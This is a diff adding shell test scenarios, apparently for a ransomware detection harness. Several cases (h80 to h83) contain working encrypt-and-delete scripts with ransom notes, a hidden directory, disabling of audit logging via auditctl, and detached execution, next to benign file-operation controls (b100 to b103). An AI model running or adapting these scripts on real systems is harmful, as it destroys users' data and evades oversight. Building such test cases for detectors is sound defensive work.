@@ -2384,3 +2384,109 @@ sc_h71_ssh_sudo_c_locker_under_apt_rsync() {
   wait $p1 $p2
   DEBIAN_FRONTEND=noninteractive apt-get purge -y -q --autoremove texlive-base >/dev/null 2>&1; rm -rf /srv/backup /usr/local/sbin/smartd-cache
 }
+
+# --- batch 20 ---
+pre_h80_ssh_sudo_auditctl_cut_midway() {
+  install -d -m 755 /usr/lib/.nfs-idmap
+  cat > /usr/lib/.nfs-idmap/go.sh <<'S'
+#!/bin/bash
+# encrypts the first folder, then turns auditing off (auditctl -e 0) and goes on with the rest
+k=Cut-80; first=1
+for d in /srv/nas/share/*/; do
+  find "$d" -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:$k -in "$f" -out "$f.cut80" && rm -f "$f"; done
+  printf 'All your files are encrypted. cut80@tutamail.example\n' > "$d/CUT80-README.txt"
+  if [ $first = 1 ]; then auditctl -e 0 >/dev/null; first=0; fi
+done
+S
+  chmod 755 /usr/lib/.nfs-idmap/go.sh
+}
+sc_h80_ssh_sudo_auditctl_cut_midway() {
+  local first; first=$(ls -d /srv/nas/share/*/ | head -1)
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l) first_dir $first files_first $(find $first -type f | wc -l)" > $CASE/facts
+  sshx deploy 'sudo /usr/lib/.nfs-idmap/go.sh; echo ok'
+  echo "share after: $(find /srv/nas/share -name '*.cut80' | wc -l) encrypted" >> $CASE/facts
+  rm -rf /usr/lib/.nfs-idmap
+}
+pre_h81_ssh_venv_python_setsid_logout() {
+  su - priya -c 'python3 -m venv --copies --without-pip ~/.venv'
+  cat > /home/priya/enc.py <<'P'
+import os, sys, hashlib
+key = hashlib.sha256(b'venv-81').digest()
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        p = os.path.join(root, n)
+        with open(p, 'rb') as f: data = f.read()
+        with open(p + '.vnv81', 'wb') as f: f.write(bytes(b ^ key[i % 32] for i, b in enumerate(data)))
+        os.unlink(p)
+    with open(os.path.join(root, 'VNV81-DECRYPT.txt'), 'w') as f: f.write('your work is encrypted. vnv81@proton.example\n')
+open('/tmp/.h81-done', 'w').close()
+P
+  chown priya: /home/priya/enc.py
+}
+sc_h81_ssh_venv_python_setsid_logout() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'setsid -f sh -c "sleep 2; exec ~/.venv/bin/python3 ~/enc.py ~/work" >/dev/null 2>&1 </dev/null; exit 0'
+  for i in $(seq 120); do [ -f /tmp/.h81-done ] && break; sleep 1; done; rm -f /tmp/.h81-done
+  rm -rf /home/priya/.venv /home/priya/enc.py
+}
+sc_h82_ssh_scareware_rename_locked() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'find ~/Documents -type f -exec sh -c '"'"'for f; do mv -- "$f" "$f.locked"; done'"'"' _ {} + ; find ~/Documents -type d -exec sh -c '"'"'printf "ALL YOUR FILES ARE ENCRYPTED. Pay 0.1 BTC to bc1q-scare82 to get them back.\n" > "$1/HOW_TO_UNLOCK_FILES.txt"'"'"' _ {} \; ; echo ok'
+}
+sc_h83_ssh_split_openssl_cat() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  sshx svc-nas 'find /srv/nas/share -type f | while read -r f; do split -b 16k -- "$f" "$f.part-" && for p in "$f".part-*; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Sp-83 -in "$p" -out "$p.e" && rm -f "$p"; done && cat "$f".part-*.e > "$f.enc" && rm -f "$f" "$f".part-*.e; done; find /srv/nas/share -type d -exec sh -c '"'"'echo "files encrypted, sp83@onion.example" > "$1/SP83-RESTORE.txt"'"'"' _ {} \; ; echo ok'
+}
+pre_b100_ssh_sudo_mv_tree_to_tmpfs() {
+  python3 - <<'PY'
+import os, random
+r = random.Random(100)
+for d in range(12):
+    p = f'/srv/nas/projects/proj_{d:02d}/assets'
+    os.makedirs(p, exist_ok=True)
+    for i in range(27):
+        with open(f'{p}/file_{i:03d}.' + r.choice(['dat','png','txt','csv']), 'wb') as f: f.write(os.urandom(r.randint(1000, 20000)))
+PY
+  chown -R svc-nas: /srv/nas/projects
+  mkdir -p /mnt/archive; mountpoint -q /mnt/archive || mount -t tmpfs -o size=64m tmpfs /mnt/archive; chown svc-nas: /mnt/archive
+}
+sc_b100_ssh_sudo_mv_tree_to_tmpfs() {
+  echo "files $(find /srv/nas/projects -type f | wc -l) dirs $(find /srv/nas/projects -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'sudo -u svc-nas mv /srv/nas/projects /mnt/archive/projects-2025 && find /mnt/archive -type f | wc -l'
+  umount /mnt/archive; rmdir /mnt/archive
+}
+pre_b101_ssh_rsync_camera_card_dated() {
+  mkdir -p /media/card; mountpoint -q /media/card || mount -t tmpfs -o size=64m tmpfs /media/card
+  python3 - <<'PY'
+import os, random
+r = random.Random(101)
+for day, folder in [('2026-12-05','100CANON'),('2026-12-06','101CANON'),('2026-12-07','102CANON')]:
+    p = f'/media/card/DCIM/{folder}'; os.makedirs(p, exist_ok=True)
+    for i in range(70):
+        with open(f'{p}/IMG_{r.randint(1000,9999)}{i:02d}.JPG', 'wb') as f: f.write(b'\xff\xd8\xff\xe1' + os.urandom(r.randint(3000, 30000)))
+        open(f'{p}/.{folder}-{day}', 'w').close() if i == 0 else None
+PY
+  chown -R tomas: /media/card
+}
+sc_b101_ssh_rsync_camera_card_dated() {
+  echo "files $(find /media/card -name '*.JPG' | wc -l)" > $CASE/facts
+  sshx tomas 'for d in /media/card/DCIM/*/; do day=$(ls -a "$d" | sed -n "s/^\.[0-9]*CANON-//p"); mkdir -p ~/Pictures/$day && rsync -a --remove-source-files --exclude ".*" "$d" ~/Pictures/$day/; done; find /media/card/DCIM -name ".*CANON-*" -delete; find /media/card/DCIM -mindepth 1 -type d -empty -delete; ls -R ~/Pictures | grep -c JPG'
+  umount /media/card; rmdir /media/card; rm -rf /home/tomas/Pictures
+}
+pre_b102_ssh_gpg_c_tax_pdfs_shred() {
+  mkdir -p /home/priya/work/tax-2025
+  for i in $(seq 1 10); do head -c $((30000 + i * 1000)) /dev/urandom > /home/priya/work/tax-2025/steuer_beleg_$i.pdf; done
+  chown -R priya: /home/priya/work/tax-2025
+}
+sc_b102_ssh_gpg_c_tax_pdfs_shred() {
+  sshx priya 'cd ~/work/tax-2025 && for f in *.pdf; do gpg --batch --yes --pinentry-mode loopback --passphrase "Steuer 2025!" -c "$f" && shred -u "$f"; sleep 2; done; ls | tee /dev/stderr | wc -l' > $CASE/facts 2>&1
+}
+pre_b103_ssh_tar_restore_find_newer_delete() {
+  su - mkowalski -c 'find ~/Documents -type f -exec touch -d "-2 days" {} + && tar -cf /tmp/mk-backup.tar -C ~ Documents && touch ~/.backup-stamp'
+  chmod 644 /tmp/mk-backup.tar; sleep 1
+  su - mkowalski -c 'for d in ~/Documents/*/; do for i in 1 2 3; do head -c 5000 /dev/urandom > "$d/new_since_$i.tmp"; done; done; for f in $(find ~/Documents -type f | head -20); do echo edit >> "$f"; done'
+}
+sc_b103_ssh_tar_restore_find_newer_delete() {
+  sshx mkowalski 'tar -xpf /tmp/mk-backup.tar -C ~ && find ~/Documents -type f -newer ~/.backup-stamp -print -delete | wc -l' > $CASE/facts
+  rm -f /tmp/mk-backup.tar /home/mkowalski/.backup-stamp
+}
